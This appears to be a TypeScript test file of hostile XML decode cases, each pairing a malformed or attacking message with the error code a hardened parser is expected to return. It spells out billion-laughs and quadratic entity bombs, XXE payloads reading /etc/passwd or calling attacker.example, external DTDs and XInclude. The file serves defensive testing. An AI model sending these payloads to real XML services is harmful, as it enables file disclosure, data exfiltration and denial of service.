/**
 * Hostile XML for the three XML formats (cn, eaeu, wco): each case is the partner's valid
 * base message with one hostile change, or a document built from nothing, decoded by the
 * partner's adapter. Expected codes come from parseXmlSafely's order of checks: byte limit,
 * strict UTF-8, declared encoding, entity declarations, DTDs, well-formedness, nesting, then
 * the adapter's structure rules.
 */
import type { DecodeCase } from '../case-types.js';
import {
  baseText,
  NAME_FIELDS,
  profileOf,
  replaceXmlContent,
  rootStartTag,
  utf8,
  withBeforeRoot,
  withRootAttributes,
  XML_PARTNERS,
  type Partner,
} from '../support/formats.js';

type Draft = Omit<DecodeCase, 'id' | 'target' | 'partner'> & { readonly name: string };

const legalNameOf = (partner: Partner): string => NAME_FIELDS[partner].legalName as string;
const rootOf = (partner: Partner): string => rootStartTag(baseText(partner)).qname;
const maxBytes = (partner: Partner): number => profileOf(partner).limits.maxBytes;
const maxDepth = (partner: Partner): number => profileOf(partner).limits.maxDepth;

/** The base message with the legal name's content replaced by raw markup. */
const inName = (partner: Partner, raw: string): string =>
  replaceXmlContent(baseText(partner), legalNameOf(partner), raw);

/** The base message with a DOCTYPE before the root and raw markup in the legal name. */
const withDoctype = (partner: Partner, doctype: (root: string) => string, nameContent?: string): string =>
  withBeforeRoot(
    nameContent === undefined ? baseText(partner) : inName(partner, nameContent),
    doctype(rootOf(partner)),
  );

/** Replace the bytes of the first occurrence of `marker` in the base message. */
function withBytes(partner: Partner, marker: string, bytes: readonly number[]): Uint8Array {
  const text = inName(partner, marker);
  const at = Buffer.from(text, 'utf8').indexOf(Buffer.from(marker, 'utf8'));
  const whole = Buffer.from(text, 'utf8');
  return Buffer.concat([
    whole.subarray(0, at),
    Buffer.from(bytes),
    whole.subarray(at + Buffer.byteLength(marker)),
  ]);
}

/** Pad the base message with trailing white space to exactly `size` bytes (after the root: still well-formed). */
function paddedTo(partner: Partner, size: number): Uint8Array {
  const base = utf8(baseText(partner));
  return Buffer.concat([base, Buffer.alloc(size - base.length, 0x20)]);
}

function drafts(partner: Partner): Draft[] {
  const root = rootOf(partner);
  const namespace = profileOf(partner).wire.namespace;
  const nested = (levels: number, inner = 'x') => `${'<n>'.repeat(levels)}${inner}${'</n>'.repeat(levels)}`;
  return [
    // ---- entity expansion
    {
      name: 'billion-laughs',
      category: 'xml-bomb',
      expect: 'XML_ENTITY_FORBIDDEN',
      input: () =>
        utf8(
          withDoctype(
            partner,
            (r) =>
              `<!DOCTYPE ${r} [\n<!ENTITY lol0 "lol">\n${Array.from({ length: 9 }, (_, i) => `<!ENTITY lol${i + 1} "${`&lol${i};`.repeat(10)}">`).join('\n')}\n]>`,
            '&lol9;',
          ),
        ),
    },
    {
      name: 'quadratic-blowup-entity',
      category: 'xml-bomb',
      expect: 'XML_ENTITY_FORBIDDEN',
      input: () =>
        utf8(
          withDoctype(
            partner,
            (r) => `<!DOCTYPE ${r} [<!ENTITY a "${'a'.repeat(50_000)}">]>`,
            '&a;'.repeat(20_000),
          ),
        ),
    },
    {
      name: 'entity-declaration-without-doctype-keyword-case',
      category: 'xml-bomb',
      expect: 'XML_ENTITY_FORBIDDEN',
      input: () =>
        utf8(withDoctype(partner, (r) => `<!doctype ${r} [<!entity x "${'x'.repeat(1000)}">]>`, '&x;&x;&x;')),
    },
    {
      name: 'entity-declaration-after-64kb-of-comments',
      category: 'xml-bomb',
      expect: 'XML_ENTITY_FORBIDDEN',
      input: () =>
        utf8(
          withDoctype(
            partner,
            (r) => `${'<!-- padding -->'.repeat(4096)}<!DOCTYPE ${r} [<!ENTITY e "expanded">]>`,
            '&e;',
          ),
        ),
    },
    {
      name: 'entity-declaration-inside-a-comment-is-refused-conservatively',
      category: 'xml-bomb',
      expect: 'XML_ENTITY_FORBIDDEN',
      input: () => utf8(withBeforeRoot(baseText(partner), '<!-- <!ENTITY looks "harmless"> -->')),
    },
    {
      // sax checks each attribute against all earlier ones of its element (cost grows with the square), so the pre-scan caps them first.
      name: 'ten-thousand-attributes-on-one-element',
      category: 'xml-bomb',
      expect: 'MALFORMED_XML', // refused by the linear pre-scan (at most 64 attributes per element)
      input: () =>
        utf8(
          inName(
            partner,
            `<f:x xmlns:f="urn:hostile"${Array.from({ length: 10_000 }, (_, i) => ` a${i}="x"`).join('')}/>`,
          ),
        ),
    },
    {
      name: 'namespace-declaration-at-every-one-of-1000-levels',
      category: 'xml-bomb',
      expect: 'NESTING_TOO_DEEP',
      input: () =>
        utf8(inName(partner, `${'<z:n xmlns:z="urn:hostile:z">'.repeat(1000)}x${'</z:n>'.repeat(1000)}`)),
    },
    // ---- external entities and DTDs
    {
      name: 'xxe-system-file',
      category: 'external-entity',
      expect: 'XML_ENTITY_FORBIDDEN',
      input: () =>
        utf8(
          withDoctype(partner, (r) => `<!DOCTYPE ${r} [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>`, '&xxe;'),
        ),
    },
    {
      name: 'xxe-system-http',
      category: 'external-entity',
      expect: 'XML_ENTITY_FORBIDDEN',
      input: () =>
        utf8(
          withDoctype(
            partner,
            (r) => `<!DOCTYPE ${r} [<!ENTITY xxe SYSTEM "http://attacker.example/collect?d=1">]>`,
            '&xxe;',
          ),
        ),
    },
    {
      name: 'xxe-public-identifier',
      category: 'external-entity',
      expect: 'XML_ENTITY_FORBIDDEN',
      input: () =>
        utf8(
          withDoctype(
            partner,
            (r) => `<!DOCTYPE ${r} [<!ENTITY xxe PUBLIC "-//ATTACKER//X" "http://attacker.example/x.ent">]>`,
            '&xxe;',
          ),
        ),
    },
    {
      name: 'xxe-parameter-entity-out-of-band',
      category: 'external-entity',
      expect: 'XML_ENTITY_FORBIDDEN',
      input: () =>
        utf8(
          withDoctype(
            partner,
            (r) => `<!DOCTYPE ${r} [<!ENTITY % remote SYSTEM "http://attacker.example/evil.dtd"> %remote;]>`,
          ),
        ),
    },
    {
      name: 'xxe-php-filter-uri',
      category: 'external-entity',
      expect: 'XML_ENTITY_FORBIDDEN',
      input: () =>
        utf8(
          withDoctype(
            partner,
            (r) =>
              `<!DOCTYPE ${r} [<!ENTITY xxe SYSTEM "php://filter/convert.base64-encode/resource=/etc/hosts">]>`,
            '&xxe;',
          ),
        ),
    },
    {
      name: 'xinclude-of-a-local-file',
      category: 'external-entity',
      expect: partner === 'cn' || partner === 'wco' ? 'WRONG_NAMESPACE' : 'UNEXPECTED_FIELD',
      input: () =>
        utf8(
          inName(
            partner,
            '<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="file:///etc/passwd" parse="text"/>',
          ),
        ),
    },
    {
      name: 'external-dtd-system',
      category: 'dtd',
      expect: 'XML_DTD_FORBIDDEN',
      input: () =>
        utf8(withDoctype(partner, (r) => `<!DOCTYPE ${r} SYSTEM "http://attacker.example/evil.dtd">`)),
    },
    {
      name: 'external-dtd-public',
      category: 'dtd',
      expect: 'XML_DTD_FORBIDDEN',
      input: () =>
        utf8(
          withDoctype(
            partner,
            (r) =>
              `<!DOCTYPE ${r} PUBLIC "-//W3C//DTD XHTML 1.0 Strict//EN" "http://www.w3.org/TR/xhtml1/DTD/xhtml1-strict.dtd">`,
          ),
        ),
    },
    {
      name: 'internal-subset-without-entities',
      category: 'dtd',
      expect: 'XML_DTD_FORBIDDEN',
      input: () =>
        utf8(
          withDoctype(
            partner,
            (r) => `<!DOCTYPE ${r} [<!ELEMENT ${r} ANY><!ATTLIST ${r} injected CDATA "default">]>`,
          ),
        ),
    },
    {
      name: 'doctype-in-lower-case',
      category: 'dtd',
      expect: 'XML_DTD_FORBIDDEN',
      input: () => utf8(withDoctype(partner, (r) => `<!doctype ${r}>`)),
    },
    // ---- nesting
    {
      name: 'one-level-over-the-limit-inside-a-name',
      category: 'deep-nesting',
      expect: 'NESTING_TOO_DEEP',
      input: () => utf8(inName(partner, nested(maxDepth(partner)))),
    },
    {
      name: '100000-levels',
      category: 'deep-nesting',
      expect: 'NESTING_TOO_DEEP',
      input: () =>
        utf8(
          `<${root} xmlns${root.includes(':') ? `:${root.split(':')[0]}` : ''}="${namespace}">${nested(100_000)}</${root}>`,
        ),
    },
    {
      name: 'deep-nesting-in-a-foreign-namespace',
      category: 'deep-nesting',
      expect: 'NESTING_TOO_DEEP',
      input: () => utf8(inName(partner, `<f:n xmlns:f="urn:hostile">${nested(200)}</f:n>`)),
    },
    // ---- size
    {
      name: 'exactly-at-the-byte-limit',
      category: 'oversize',
      expect: 'ACCEPTED',
      input: () => paddedTo(partner, maxBytes(partner)),
    },
    {
      name: 'one-byte-over-the-limit',
      category: 'oversize',
      expect: 'PAYLOAD_TOO_LARGE',
      input: () => paddedTo(partner, maxBytes(partner) + 1),
    },
    {
      name: 'sixteen-megabyte-name',
      category: 'oversize',
      expect: 'PAYLOAD_TOO_LARGE',
      input: () => utf8(inName(partner, 'A'.repeat(16 * 1024 * 1024))),
    },
    // ---- encodings
    {
      name: 'byte-ff-in-a-name',
      category: 'invalid-utf8',
      expect: 'INVALID_ENCODING',
      input: () => withBytes(partner, '@', [0xff]),
    },
    {
      name: 'overlong-slash-c0-af',
      category: 'invalid-utf8',
      expect: 'INVALID_ENCODING',
      input: () => withBytes(partner, '@', [0xc0, 0xaf]),
    },
    {
      name: 'overlong-nul-c0-80',
      category: 'invalid-utf8',
      expect: 'INVALID_ENCODING',
      input: () => withBytes(partner, '@', [0xc0, 0x80]),
    },
    {
      name: 'utf16-surrogate-ed-a0-80',
      category: 'invalid-utf8',
      expect: 'INVALID_ENCODING',
      input: () => withBytes(partner, '@', [0xed, 0xa0, 0x80]),
    },
    {
      name: 'lone-continuation-byte',
      category: 'invalid-utf8',
      expect: 'INVALID_ENCODING',
      input: () => withBytes(partner, '@', [0x80]),
    },
    {
      name: 'truncated-three-byte-sequence',
      category: 'invalid-utf8',
      expect: 'INVALID_ENCODING',
      input: () => withBytes(partner, '@', [0xe4, 0xb8]),
    },
    {
      name: 'code-point-above-10ffff',
      category: 'invalid-utf8',
      expect: 'INVALID_ENCODING',
      input: () => withBytes(partner, '@', [0xf4, 0x90, 0x80, 0x80]),
    },
    {
      name: 'five-byte-sequence',
      category: 'invalid-utf8',
      expect: 'INVALID_ENCODING',
      input: () => withBytes(partner, '@', [0xf8, 0x88, 0x80, 0x80, 0x80]),
    },
    {
      name: 'latin1-bytes-without-declaration',
      category: 'invalid-utf8',
      expect: 'INVALID_ENCODING',
      input: () => withBytes(partner, '@', [...Buffer.from('Soci\u00e9t\u00e9', 'latin1')]),
    },
    {
      name: 'whole-document-in-utf16le-with-bom',
      category: 'invalid-utf8',
      expect: 'INVALID_ENCODING',
      input: () =>
        Buffer.concat([
          Buffer.from([0xff, 0xfe]),
          Buffer.from(baseText(partner).replace('encoding="UTF-8"', 'encoding="UTF-16"'), 'utf16le'),
        ]),
    },
    {
      name: 'declared-iso-8859-1',
      category: 'invalid-utf8',
      expect: 'INVALID_ENCODING',
      input: () => utf8(baseText(partner).replace('encoding="UTF-8"', 'encoding="ISO-8859-1"')),
    },
    {
      name: 'declared-windows-1251',
      category: 'invalid-utf8',
      expect: 'INVALID_ENCODING',
      input: () => utf8(baseText(partner).replace('encoding="UTF-8"', "encoding='windows-1251'")),
    },
    {
      name: 'utf8-bom-is-accepted',
      category: 'invalid-utf8',
      expect: 'ACCEPTED',
      input: () => Buffer.concat([Buffer.from([0xef, 0xbb, 0xbf]), utf8(baseText(partner))]),
    },
    // ---- well-formedness
    { name: 'empty-document', category: 'malformed', expect: 'MALFORMED_XML', input: () => utf8('') },
    { name: 'white-space-only', category: 'malformed', expect: 'MALFORMED_XML', input: () => utf8(' \n\t ') },
    {
      name: 'truncated-in-the-middle',
      category: 'malformed',
      expect: 'MALFORMED_XML',
      input: () => utf8(baseText(partner).slice(0, Math.floor(baseText(partner).length / 2))),
    },
    {
      name: 'undeclared-entity-reference',
      category: 'malformed',
      expect: 'MALFORMED_XML',
      input: () => utf8(inName(partner, '&xxe;')),
    },
    {
      name: 'unescaped-less-than-in-text',
      category: 'malformed',
      expect: 'MALFORMED_XML',
      input: () => utf8(inName(partner, 'A < B')),
    },
    {
      name: 'unterminated-cdata',
      category: 'malformed',
      expect: 'MALFORMED_XML',
      input: () => utf8(inName(partner, '<![CDATA[never closed')),
    },
    {
      name: 'unquoted-attribute',
      category: 'malformed',
      expect: 'MALFORMED_XML',
      input: () => utf8(withRootAttributes(baseText(partner), ' a=1')),
    },
    {
      name: 'unbound-prefix',
      category: 'malformed',
      expect: 'MALFORMED_XML',
      input: () => utf8(inName(partner, '<nope:x>y</nope:x>')),
    },
    // ---- structure tricks
    {
      name: 'default-namespace-redefined-on-a-child',
      category: 'smuggling',
      // eaeu checks that a leaf holds text before it looks at the child's namespace.
      expect: partner === 'eaeu' ? 'UNEXPECTED_FIELD' : 'WRONG_NAMESPACE',
      input: () => utf8(inName(partner, '<x xmlns="urn:attacker">y</x>')),
    },
    // cn is left out: its decoder drops markup inside a text element (reported; see README).
    ...(partner === 'cn'
      ? []
      : [
          {
            name: 'markup-inside-a-name',
            category: 'smuggling',
            expect: 'UNEXPECTED_FIELD',
            input: () =>
              utf8(inName(partner, `Visible<${legalNameOf(partner)}>hidden</${legalNameOf(partner)}>`)),
          } satisfies Draft,
        ]),
    {
      name: 'control-character-reference-in-a-name',
      category: 'smuggling',
      expect: 'MALFORMED_XML',
      input: () => utf8(inName(partner, 'Evil&#x1;Corp')),
    },
    {
      name: 'nul-character-reference-in-a-name',
      category: 'smuggling',
      expect: 'MALFORMED_XML',
      input: () => utf8(inName(partner, 'Evil&#0;Corp')),
    },
    {
      name: 'raw-escape-character-in-a-name',
      category: 'smuggling',
      expect: 'INVALID_VALUE',
      input: () => utf8(inName(partner, 'Evil\u001b[31mCorp')),
    },
    {
      name: 'whole-message-twice-under-one-root',
      category: 'smuggling',
      expect: 'UNEXPECTED_FIELD',
      input: () => {
        const text = baseText(partner);
        const { index, tag, qname } = rootStartTag(text);
        const inner = text.slice(index + tag.length, text.lastIndexOf(`</${qname}>`));
        return utf8(`${text.slice(0, index + tag.length)}${inner}${inner}</${qname}>\n`);
      },
    },
  ];
}

export const XML_INPUT_CASES: DecodeCase[] = XML_PARTNERS.flatMap((partner) =>
  drafts(partner).map(({ name, ...rest }) => ({
    ...rest,
    id: `decode/${partner}/${rest.category}/${name}`,
    target: 'decode' as const,
    partner,
  })),
);
